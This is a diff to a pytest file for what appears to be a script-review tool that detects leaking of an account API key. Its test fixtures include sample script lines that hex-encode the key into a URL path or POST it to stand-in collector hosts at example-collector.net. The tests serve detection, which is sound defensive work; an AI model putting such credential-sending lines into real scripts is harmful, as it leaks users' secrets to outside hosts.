@@ -49,7 +49,7 @@ def test_it_reports_the_key_in_hex_in_the_path_of_a_sink():
         API_ROWS + "var k = metadata.account.apikey;\n" + to_hex +
         "httprequest.get('https://c.example-collector.net/' + hex + '.gif');\n",
         [sample("https://api.example.com/rows", ROWS)], hosts=("api.example.com", "c.example-collector.net"))
-    assert "apikey (metadata.account.apikey) in the URL" in finding(result, RULE).message
+    assert "apikey (metadata.account.apikey) in the path" in finding(result, RULE).message
 
 
 def test_it_reports_received_rows_posted_to_a_sink_naming_where_they_came_from():
@@ -123,12 +123,16 @@ def test_an_api_whose_values_are_all_short_is_still_the_source_of_the_rows():
     assert RULE not in rules(result)
 
 
-def test_a_collector_that_answers_a_status_the_script_copies_into_a_row_stays_a_sink():
-    result = flow_review(API_ROWS + "var r = JSON.parse(httprequest.post('https://telemetry.example-collector.net/v1',"
+def test_a_collector_whose_answer_lands_in_a_row_is_a_source_but_the_key_sent_there_fails():
+    result = flow_review("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n" + API_ROWS +
+                         "var r = JSON.parse(httprequest.post('https://telemetry.example-collector.net/v1',"
                          " metadata.account.apikey));\ndatagrid.addCell(r.status); datagrid.addCell('x'); datagrid.endRow();\n",
                          [sample("https://api.example.com/rows", ROWS),
                           sample("https://telemetry.example-collector.net/v1", {"status": "ok"}, "POST")], hosts=COLLECTOR)
-    assert RULE in rules(result)
+    # Its answer reaches the rows, so it is a source (bundle-format.md); the key is not
+    # its to receive: credential-spread, an error, not a warning any more.
+    spread = finding(result, "credential-spread")
+    assert spread.severity == "error" and "site example-collector.net" in spread.message and result.verdict == "fail"
 
 
 @pytest.mark.parametrize("send", [
@@ -150,12 +154,3 @@ def test_a_huge_host_is_cut_in_the_message_and_the_sites_table():
                          " metadata.account.apikey);\n", [sample("https://api.example.com/rows", ROWS)])
     assert len(finding(result, RULE).message) < 1000
     assert all(len(h) <= 255 for s in result.sites for h in s["hosts"])
-
-
-def test_runs_past_the_reviews_budget_fail_closed(monkeypatch):
-    from review.engine import dataflow
-
-    monkeypatch.setattr(dataflow, "MAX_FOLLOWED_CHARS", 2000)
-    result = flow_review(API_ROWS + "httprequest.post('https://api.example.com/up', new Array(3000).join('z'));\n",
-                         [sample("https://api.example.com/rows", ROWS)])
-    assert "8 MiB in all), so where its credentials and data went cannot be checked" in finding(result, RULE).message
